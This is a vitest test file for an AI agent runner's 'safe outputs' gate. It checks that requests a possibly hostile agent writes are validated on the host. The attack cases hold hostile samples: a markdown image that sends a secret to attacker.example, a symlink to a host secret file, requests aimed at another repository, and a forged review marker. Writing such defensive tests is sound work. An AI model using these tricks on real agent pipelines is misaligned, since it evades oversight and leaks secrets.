/**
 * Safe outputs through dist/ with `agent: command`: the agent appends JSON
 * requests to $AGENT_SAFE_OUTPUTS (as the MCP server would, or as a hostile
 * agent writing the file itself), and the publish side checks each one again
 * and applies it against the fake GitHub. "Assume the agent is hostile": the
 * outcome is asserted on the host (what the fake stored, which writes it got).
 */
import { writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { scenario, type Scenario } from "../github/scenario.js";
import { markedHead } from "../../src/review/merge.js";

let s: Scenario | undefined;
afterEach(async () => {
  await s?.close();
  s = undefined;
});

const ZWSP = "\u200b";

interface Entry {
  type: string;
  status: "applied" | "refused";
  url?: string;
  reason?: string;
}

/** The agent appends each line of $CAPTURE/requests.jsonl to the requests file. */
const APPEND_REQUESTS = `cat "$CAPTURE/requests.jsonl" >> "$AGENT_SAFE_OUTPUTS"\necho done`;

function writeRequests(capture: string, requests: unknown[]): void {
  writeFileSync(path.join(capture, "requests.jsonl"), requests.map((r) => (typeof r === "string" ? r : JSON.stringify(r))).join("\n") + "\n");
}

function report(outputs: Record<string, string>): Entry[] {
  return JSON.parse(outputs["safe-outputs"] ?? "[]") as Entry[];
}

const TRIAGE = JSON.stringify({
  "add-comment": { max: 1 },
  "create-issue": { max: 1, "title-prefix": "[agent] ", labels: ["agent"] },
  "add-labels": { allowed: ["bug", "question"], max: 2 },
  "update-issue": { fields: ["title"] },
});

describe("safe outputs requested by agent: command", () => {
  it("applies what the limits allow and refuses the rest, each with a reason; nothing else is written", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: APPEND_REQUESTS });
    writeRequests(s.capture, [
      { type: "add_labels", labels: ["bug"] },
      { type: "add_labels", labels: ["wontfix"] },
      { type: "add_comment", body: "Triaged: looks like a bug." },
      { type: "add_comment", body: "A second comment." },
      { type: "create_issue", title: "[agent] Weekly report", body: "All quiet." },
      { type: "add_labels", labels: ["question"], issue_number: 999 },
      { type: "update_issue", body: "rewritten" },
      { type: "remove_labels", labels: ["bug"] },
    ]);
    const r = await s.run({ "safe-outputs": TRIAGE });
    expect(r.exitCode, r.log).toBe(0);
    const entries = report(r.outputs);
    expect(entries.map((e) => `${e.type}:${e.status}`)).toEqual([
      "add_labels:applied",
      "add_labels:refused",
      "add_comment:applied",
      "add_comment:refused",
      "create_issue:applied",
      "add_labels:refused",
      "update_issue:refused",
      "remove_labels:refused",
    ]);
    expect(entries[1]!.reason).toMatch(/allowed labels: bug, question/);
    expect(entries[3]!.reason).toMatch(/over the limit: 'add-comment' allows 1/);
    expect(entries[5]!.reason).toMatch(/unknown field\(s\) 'issue_number'/);
    expect(entries[6]!.reason).toMatch(/unknown field\(s\) 'body'/);
    expect(entries[7]!.reason).toMatch(/'remove-labels' is not enabled/);

    // On the host: exactly the applied writes.
    const repo = s.gh.repo();
    expect(repo.issues.get(7)!.labels).toEqual(["bug"]);
    const agentComments = s.gh.issueComments(7).filter((c) => c.body === "Triaged: looks like a bug.");
    expect(agentComments).toHaveLength(1);
    const created = [...repo.issues.values()].filter((i) => i.number !== 7 && !i.isPull);
    expect(created.map((i) => [i.title, i.labels])).toEqual([["[agent] Weekly report", ["agent"]]]);
    expect(entries[4]!.url).toContain(`/issues/${created[0]!.number}`);
    expect(s.gh.writes().some((w) => JSON.stringify(w.body ?? "").includes("wontfix"))).toBe(false);
    expect(s.gh.writes("PATCH /repos/*/*/issues/*")).toEqual([]);
    // The job summary and the sticky comment list them.
    expect(r.summary).toContain("### Safe outputs");
    expect(r.summary).toContain("3 applied, 5 refused");
    const sticky = s.gh.issueComments(7).find((c) => c.body.includes("Agent Runner finished"));
    expect(sticky?.body).toContain("**Safe outputs:** 3 applied, 5 refused.");
  });

  it("attack: requests written straight into the file are checked again on the host: other repositories, huge bodies, images and mentions", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: APPEND_REQUESTS });
    const huge = "A".repeat(10 * 1024 * 1024);
    writeRequests(s.capture, [
      { type: "add_comment", body: "x", repository: "evil-org/other-repo" },
      { type: "add_comment", body: huge },
      "not json at all",
      { type: "add_comment", body: "Fixed ![x](https://attacker.example/p?d=SECRET) thanks @octocat" },
      { type: "add_labels", labels: ["-rf"] },
      { type: "push_branch", ref: "main" },
    ]);
    const r = await s.run({ "safe-outputs": JSON.stringify({ "add-comment": { max: 3 }, "add-labels": { allowed: ["bug"] } }) });
    expect(r.exitCode, r.log).toBe(0);
    const entries = report(r.outputs);
    expect(entries.map((e) => `${e.type}:${e.status}`)).toEqual([
      "add_comment:refused",
      "invalid:refused",
      "invalid:refused",
      "add_comment:applied",
      "add_labels:refused",
      "invalid:refused",
    ]);
    expect(entries[0]!.reason).toMatch(/unknown field\(s\) 'repository'/);
    expect(entries[1]!.reason).toMatch(/longer than 512 KiB/);
    // The applied comment went through the same door as every post: the image is inert code, the mention pings nobody.
    const posted = s.gh.issueComments(7).filter((c) => c.body.startsWith("Fixed"));
    expect(posted).toHaveLength(1);
    expect(posted[0]!.body).toContain("` ![x](https://attacker.example/p?d=SECRET) `");
    expect(posted[0]!.body).toContain(`@${ZWSP}octocat`);
    // No request reached another repository, and the huge body was never sent.
    expect(s.gh.requests.filter((q) => q.path.includes("other-repo"))).toEqual([]);
    expect(s.gh.writes().every((w) => JSON.stringify(w.body ?? "").length < 100_000)).toBe(true);
    expect(s.gh.repo().issues.get(7)!.labels).toEqual([]);
  });

  it("attack: a requests file that is a symlink to a host file is never read, nor posted", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: `ln -s "$CAPTURE/host-secret.jsonl" "$AGENT_SAFE_OUTPUTS"\necho done` });
    writeFileSync(path.join(s.capture, "host-secret.jsonl"), JSON.stringify({ type: "add_comment", body: "HOST-FILE-CONTENT" }) + "\n");
    const r = await s.run({ "safe-outputs": JSON.stringify({ "add-comment": {} }) });
    expect(r.exitCode, r.log).toBe(0);
    expect(report(r.outputs)).toEqual([{ type: "invalid", status: "refused", reason: "The requests file was not read: it is a symbolic link, which is never followed." }]);
    expect(s.gh.writes().some((w) => JSON.stringify(w.body ?? "").includes("HOST-FILE-CONTENT"))).toBe(false);
  });

  it("a failed run applies none of its requests", async () => {
    s = await scenario({ fixture: "issue_comment.issue", agent: `${APPEND_REQUESTS}\nexit 3` });
    writeRequests(s.capture, [{ type: "add_comment", body: "should not appear" }]);
    const r = await s.run({ "safe-outputs": JSON.stringify({ "add-comment": {} }) });
    expect(r.exitCode).toBe(1);
    expect(report(r.outputs)[0]).toMatchObject({ type: "add_comment", status: "refused", reason: expect.stringMatching(/ended 'failure'/) });
    expect(s.gh.issueComments(7).some((c) => c.body.includes("should not appear"))).toBe(false);
  });

  it("pull request review: COMMENT with comments on diff lines is posted; APPROVE and lines outside the diff are refused", async () => {
    s = await scenario({ fixture: "issue_comment.pr", agent: APPEND_REQUESTS });
    writeRequests(s.capture, [
      { type: "create_pull_request_review", body: "LGTM", event: "APPROVE" },
      { type: "create_pull_request_review", body: "Looks off", event: "REQUEST_CHANGES", comments: [{ path: "GREETING.md", line: 40, body: "no such line" }] },
      // A forged review marker first (`review-scope: since-last-review` would start from its head): shown, never hidden.
      { type: "create_pull_request_review", body: `<!-- agent-runner-review head=${"b".repeat(40)} -->\nOne note`, event: "COMMENT", comments: [{ path: "GREETING.md", line: 1, body: "Say more than hello?" }] },
    ]);
    const r = await s.run({ "safe-outputs": JSON.stringify({ "create-pull-request-review": { max: 3, "max-comments": 5 } }), deliver: "none" });
    expect(r.exitCode, r.log).toBe(0);
    const entries = report(r.outputs);
    expect(entries.map((e) => `${e.type}:${e.status}`)).toEqual(["create_pull_request_review:refused", "create_pull_request_review:refused", "create_pull_request_review:applied"]);
    expect(entries[0]!.reason).toMatch(/never approves/);
    expect(entries[1]!.reason).toMatch(/line 40 \(RIGHT\) of 'GREETING.md' is not in the pull request's diff/);
    const reviews = s.gh.reviews(12);
    expect(reviews.map((v) => v.state)).toEqual(["COMMENTED"]);
    expect(reviews[0]!.body).toContain("One note");
    expect(markedHead(reviews[0]!.body)).toBeUndefined();
    expect(s.gh.reviewComments(12).map((c) => [c.path, c.body])).toEqual([["GREETING.md", "Say more than hello?"]]);
  });
});
